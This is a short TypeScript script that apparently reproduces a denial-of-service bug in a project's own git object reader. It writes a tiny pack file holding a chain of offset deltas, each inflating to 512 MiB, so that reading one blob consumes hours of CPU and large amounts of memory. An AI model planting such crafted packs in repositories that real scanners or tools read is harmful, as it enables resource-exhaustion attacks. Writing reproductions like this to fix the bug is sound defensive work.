// Repro: a chain of offset deltas, each rebuilding a 512 MiB object (the cap) from its base with
// 8,192 one-byte copy ops (~40 bytes compressed per entry). Every level stays within the size cap,
// but one readBlobs builds depth x 512 MiB; git allows chains of 4,095, so a ~200 KB pack holds
// hours of work for every scan that reads the blob (its index entry may carry any id).
import * as fs from 'node:fs';
import * as os from 'node:os';
import { join } from 'node:path';
import { openGitObjects } from '../src/workspace/git-objects.js';
import { blobId, deltaVarint, writePack, type PackEntry } from '../test/security/git-files.js';
const depth = Number(process.argv[2] ?? 8);
const dir = fs.mkdtempSync(join(os.tmpdir(), 'chain-'));
const base = Buffer.alloc(65536, 'x');
const size = 512 * 1024 * 1024;
const first = Buffer.concat([deltaVarint(base.length), deltaVarint(size), Buffer.alloc(size / 65536, 0x80)]);
const next = Buffer.concat([deltaVarint(size), deltaVarint(size), Buffer.alloc(size / 65536, 0x80)]);
const entries: PackEntry[] = [{ id: blobId(base), type: 'blob', data: base }];
for (let k = 1; k <= depth; k++) entries.push({ id: k.toString(16).padStart(40, '0'), type: 'ofs', ofs: k - 1, data: k === 1 ? first : next });
writePack(join(dir, 'objects', 'pack'), 'x', entries);
console.log('pack bytes', fs.statSync(join(dir, 'objects', 'pack', 'pack-x.pack')).size, 'depth', depth);
const t0 = Date.now();
const r = openGitObjects(dir).readBlobs([depth.toString(16).padStart(40, '0')]);
console.log('result', r[0] === undefined ? 'undefined' : r[0].length, Date.now() - t0, 'ms', 'maxRSS MB', Math.round(process.resourceUsage().maxRSS / 1024));
